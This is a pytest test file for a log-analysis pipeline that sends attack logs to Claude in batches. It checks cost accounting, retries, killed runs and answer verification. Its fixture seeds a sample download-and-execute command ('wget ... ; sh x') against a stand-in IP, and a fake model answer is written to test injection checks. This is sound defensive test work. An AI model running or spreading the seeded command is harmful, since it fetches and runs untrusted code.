"""Many windows are asked about in one batch: half the price, verified as ever, and paid for once whatever is killed."""

import os
import signal
import subprocess
import sys
import time
from collections.abc import Sequence
from dataclasses import replace
from datetime import datetime, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import Engine, Row, select, text

from rustbucket_pipeline.analysis.ahead import Ahead, ask_ahead
from rustbucket_pipeline.analysis.claude import Pace
from rustbucket_pipeline.analysis.digest import build_digest
from rustbucket_pipeline.analysis.report import AnalysisOutcome, build_analysis
from rustbucket_pipeline.model.window import FOUR_HOURS, Window
from rustbucket_pipeline.settings import Settings
from rustbucket_pipeline.storage.analysis_tables import claude_calls, log_analyses
from rustbucket_pipeline_tests.analysis.claude_server import KEY, ClaudeServer, faithful
from rustbucket_pipeline_tests.analysis.seeding import NOW, WINDOW, command, tell

WINDOWS = [Window(WINDOW.start + number * FOUR_HOURS, FOUR_HOURS) for number in range(3)]
PACE = Pace(deadline_seconds=20, most_bytes=100_000, first_wait_seconds=0.01, first_look_seconds=0.01)
LONG = pytest.mark.long
LATER = NOW + timedelta(hours=1)


@pytest.fixture
def digested(database: Engine) -> Engine:
    """Three windows with an attack each, digested."""
    tell(database, [command(f"wget http://203.0.113.{at.start.hour}/x; sh x", at.start) for at in WINDOWS])
    for window in WINDOWS:
        build_digest(database, window, NOW, None)
    return database


@pytest.fixture
def batching(with_claude: Settings) -> Settings:
    """Settings that batch from the second window on."""
    return with_claude.model_copy(update={"claude_batch_above": 1, "claude_batch_deadline_seconds": 5.0})


async def at_once(_: float) -> None:
    """Wait no time."""


def ahead(engine: Engine, settings: Settings, now: datetime = NOW, windows: Sequence[Window] = WINDOWS) -> Ahead:
    return ask_ahead(engine, settings, windows, now, PACE, at_once)


def reported(engine: Engine, settings: Settings, now: datetime = NOW) -> list[AnalysisOutcome]:
    return [build_analysis(engine, settings, window, now, None, PACE) for window in WINDOWS]


def calls(engine: Engine) -> list[Row[tuple[object, ...]]]:
    with engine.connect() as connection:
        return list(connection.execute(select(claude_calls).order_by(claude_calls.c.id)))


def test_more_windows_than_the_setting_says_are_one_batch_at_half_the_price(
    digested: Engine, batching: Settings, claude: ClaudeServer
) -> None:
    assert ahead(digested, batching) == Ahead(wanted=3, answered=3)
    outcomes = reported(digested, batching)
    assert [outcome.status for outcome in outcomes] == ["claude"] * 3
    assert [len(batch.requests) for batch in claude.batches.values()] == [3]
    assert claude.requests == []
    assert [outcome.cost_usd for outcome in outcomes] == [0.000625] * 3
    assert [(call.outcome, call.cost_usd, call.usage["out"]) for call in calls(digested)] == [
        ("answered", Decimal("0.000625"), 500)
    ] * 3
    with digested.connect() as connection:
        ids = connection.execute(select(log_analyses.c.request_ids)).scalars().all()
    assert ids == [["msgbatch_0"]] * 3
    assert all("steal" not in path for path in claude.paths)


def test_no_more_than_the_setting_says_are_asked_about_one_by_one(
    digested: Engine, batching: Settings, claude: ClaudeServer
) -> None:
    assert ahead(digested, batching.model_copy(update={"claude_batch_above": 3})) == Ahead()
    assert ahead(digested, batching.model_copy(update={"claude_batch_above": None})) == Ahead()
    build_analysis(digested, batching, WINDOWS[0], NOW, None, PACE)
    build_analysis(digested, batching, WINDOWS[1], NOW, None, PACE)
    assert ahead(digested, batching) == Ahead(wanted=1), "the others have their reports"
    assert claude.batches == {}


@pytest.mark.parametrize("scene", ["errored", "expired", "canceled"])
def test_what_a_batch_does_not_answer_is_asked_for_by_itself(
    digested: Engine, batching: Settings, claude: ClaudeServer, scene: str
) -> None:
    claude.scenes = [faithful, scene, faithful]
    ahead(digested, batching)
    assert [outcome.status for outcome in reported(digested, batching)] == ["claude"] * 3
    assert len(claude.requests) == 1
    assert [call.cost_usd for call in calls(digested)][:3] == [Decimal("0.000625"), 0, Decimal("0.000625")]


def hostile(_: dict[str, object]) -> dict[str, object]:
    return {"summary": "C2 is at 8.8.8.8", "severity": "info", "findings": [], "recommendations": []}


def test_a_batched_answer_is_verified_like_any_other(
    digested: Engine, batching: Settings, claude: ClaudeServer
) -> None:
    claude.scenes = [hostile, "refusal", "truncated", faithful]
    ahead(digested, batching)
    assert [outcome.status for outcome in reported(digested, batching)] == ["claude"] * 3
    flagged, refused, cut = claude.requests
    assert "an earlier answer broke these rules" in str(flagged["messages"]).lower()
    assert refused["model"] == "claude-sonnet-5-5", "the same model isn't asked again what it refused"
    assert cut["max_tokens"] == 12_000


def test_a_batch_that_takes_too_long_is_fetched_by_a_later_run(
    digested: Engine, batching: Settings, claude: ClaudeServer
) -> None:
    claude.looks = 1_000_000
    hasty = batching.model_copy(update={"claude_batch_deadline_seconds": 0.2})
    assert ahead(digested, hasty) == Ahead(wanted=3, answered=0)
    assert {outcome.claude for outcome in reported(digested, hasty)} == {"its batch is under way"}
    for batch in claude.batches.values():
        batch.looks = 0
    outcomes = reported(digested, hasty, LATER)
    assert [outcome.status for outcome in outcomes] == ["claude"] * 3
    assert len(claude.batches) == 1
    assert claude.requests == []


def test_a_batch_that_never_ends_is_given_up_and_stays_counted(
    digested: Engine, batching: Settings, claude: ClaudeServer
) -> None:
    claude.looks = 1_000_000
    ahead(digested, batching.model_copy(update={"claude_batch_deadline_seconds": 0.2}))
    outcomes = reported(digested, batching, NOW + timedelta(days=2))
    assert [outcome.status for outcome in outcomes] == ["claude"] * 3
    assert len(claude.requests) == 3
    assert [call.outcome for call in calls(digested)] == ["lost"] * 3 + ["answered"] * 3
    assert all(call.cost_usd > 0 for call in calls(digested))


def test_a_batch_whose_receipt_was_lost_is_found_again(
    digested: Engine, batching: Settings, claude: ClaudeServer
) -> None:
    claude.batch_scene = "lost"
    assert ahead(digested, batching) == Ahead(wanted=3, answered=3)
    assert [outcome.status for outcome in reported(digested, batching)] == ["claude"] * 3
    assert (len(claude.batches), len(claude.requests)) == (1, 0)


KILLED = """
import asyncio, sys
from datetime import datetime
from rustbucket_pipeline.analysis.ahead import ask_ahead
from rustbucket_pipeline.model.window import FOUR_HOURS, window_of_key
from rustbucket_pipeline.settings import load_settings
from rustbucket_pipeline.storage.postgres import open_database
settings = load_settings()
windows = [window_of_key(key, FOUR_HOURS) for key in sys.argv[2:]]
ask_ahead(open_database(settings), settings, windows, datetime.fromisoformat(sys.argv[1]))
"""


def test_a_run_killed_while_it_waits_pays_for_nothing_twice(
    digested: Engine, batching: Settings, database_url: str, claude: ClaudeServer
) -> None:
    claude.looks = 1_000_000
    variables = {"ANTHROPIC_API_KEY": KEY, "CLAUDE_BASE_URL": claude.url, "CLAUDE_BATCH_ABOVE": "1"}
    home = {"RUSTBUCKET_HOME": str(batching.home), "RUSTBUCKET_DATABASE_URL": database_url}
    command_line = [sys.executable, "-c", KILLED, NOW.isoformat(), *(window.key for window in WINDOWS)]
    run = subprocess.Popen(command_line, env=os.environ | variables | home)
    until = time.monotonic() + 60
    while not any("batches/msgbatch" in path for path in list(claude.paths)):
        assert run.poll() is None
        assert time.monotonic() < until
        time.sleep(0.05)
    run.send_signal(signal.SIGKILL)
    run.wait()
    for batch in claude.batches.values():
        batch.looks = 0
    assert ahead(digested, batching, LATER) == Ahead(wanted=3, answered=3)
    assert [outcome.status for outcome in reported(digested, batching, LATER)] == ["claude"] * 3
    assert (len(claude.batches), len(claude.requests), len(calls(digested))) == (1, 0, 3)


@pytest.mark.parametrize("scene", ["overloaded", "html", *(pytest.param(n, marks=LONG) for n in ("error", "redirect"))])
def test_a_batch_that_is_not_taken_owes_nothing(
    digested: Engine, batching: Settings, claude: ClaudeServer, scene: str
) -> None:
    claude.batch_scene = scene
    assert ahead(digested, batching) == Ahead(wanted=3, answered=0)
    assert [(call.outcome, call.cost_usd) for call in calls(digested)] == [("failed", 0)] * 3
    assert [outcome.status for outcome in reported(digested, batching)] == ["claude"] * 3


@pytest.mark.parametrize(
    "scene",
    ["html", "huge", "drop", *(pytest.param(name, marks=LONG) for name in ("not_json", "gzip_bomb", "redirect"))],
)
def test_results_that_cannot_be_read_are_fetched_later(
    digested: Engine, batching: Settings, claude: ClaudeServer, scene: str
) -> None:
    claude.results_scene = scene
    assert ahead(digested, batching.model_copy(update={"claude_batch_deadline_seconds": 0.3})).answered == 0
    assert build_analysis(digested, batching, WINDOW, NOW, None, PACE).claude == "its batch is under way"
    claude.results_scene = None
    assert [outcome.status for outcome in reported(digested, batching, LATER)] == ["claude"] * 3
    assert len(claude.batches) == 1


def test_a_batch_goes_no_further_than_the_budget(digested: Engine, batching: Settings, claude: ClaudeServer) -> None:
    poor = batching.model_copy(update={"claude_budget_usd_per_day": 0.0042})
    ahead(digested, poor)
    assert [len(batch.requests) for batch in claude.batches.values()] == [2]
    assert sorted(outcome.status for outcome in reported(digested, poor)) == ["claude", "claude", "deterministic"]


def test_the_key_is_in_no_table(digested: Engine, batching: Settings, claude: ClaudeServer) -> None:
    claude.scenes = ["errored", "text", faithful]
    ahead(digested, batching)
    reported(digested, batching)
    with digested.connect() as connection:
        for table in ("log_analyses", "claude_calls"):
            assert KEY not in str(connection.execute(text(f"SELECT * FROM {table}")).all())


def test_answers_that_came_before_a_kill_are_used_without_asking(
    digested: Engine, batching: Settings, claude: ClaudeServer
) -> None:
    ahead(digested, batching)
    seen = len(claude.paths)
    slow = replace(PACE, deadline_seconds=5)
    assert build_analysis(digested, batching, WINDOWS[2], LATER, None, slow).status == "claude"
    assert len(claude.paths) == seen
    assert ahead(digested, batching, LATER).wanted == 2
    assert len(claude.batches) == 1
